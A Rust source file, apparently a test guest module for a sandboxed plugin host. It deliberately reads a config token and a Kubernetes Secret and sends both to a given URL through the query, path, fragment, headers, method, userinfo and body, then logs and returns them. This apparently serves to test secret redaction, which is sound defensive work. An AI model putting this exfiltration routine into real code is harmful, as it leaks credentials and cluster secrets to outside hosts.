//! Secrets, put wherever a guest can put a text.

use oarlock_guest::raw::{GroupVersionKind, ObjectKey, cluster, config, http, log};

/// Reads the Secret `stored`, if the grant allows that, and the secret file `token`. Sends both to `url` in every part of a request, logs
/// them, and answers with an error that quotes them.
pub(crate) fn leak(url: &str, namespace: &str) -> String {
    let token = config::get("token").unwrap_or_default();
    let kind = GroupVersionKind { group: String::new(), version: "v1".to_owned(), kind: "Secret".to_owned() };
    let key = ObjectKey { namespace: namespace.to_owned(), name: "stored".to_owned() };
    let stored = cluster::get_live(&kind, &key).ok().flatten().unwrap_or_default();
    let value = stored.split("\"value\":\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap_or("none");
    let header = |name: &str, value: &str| http::Header { name: name.to_owned(), value: value.to_owned() };
    let headers = || {
        let forged = "00-11111111111111111111111111111111-2222222222222222-01";
        vec![
            header("authorization", &format!("Bearer {token}")),
            header("x-stored", value),
            header("traceparent", forged),
            header("tracestate", &format!("forged={token}")),
        ]
    };
    let send = |method: &str, url: String| {
        let body = format!("{token} {stored}").into_bytes();
        let request = http::Outgoing { method: method.to_owned(), url, headers: headers(), body, timeout_ms: 0 };
        http::send(&request).map_or_else(|failure| format!("{failure:?}"), |answer| answer.status.to_string())
    };
    let with_user = url.replacen("://", &format!("://user:{token}@"), 1);
    let answers = [
        send("GET", format!("{url}/shown?token={token}&stored={value}#{token}")),
        send("POST", format!("{url}/{token}/{value}")),
        send(&token, format!("{url}/method")),
        send("GET", with_user),
    ];
    let all = format!("{token} {stored} {answers:?}");
    log::log(log::Level::Error, &all, &[(token.clone(), value.to_owned())]);
    all
}
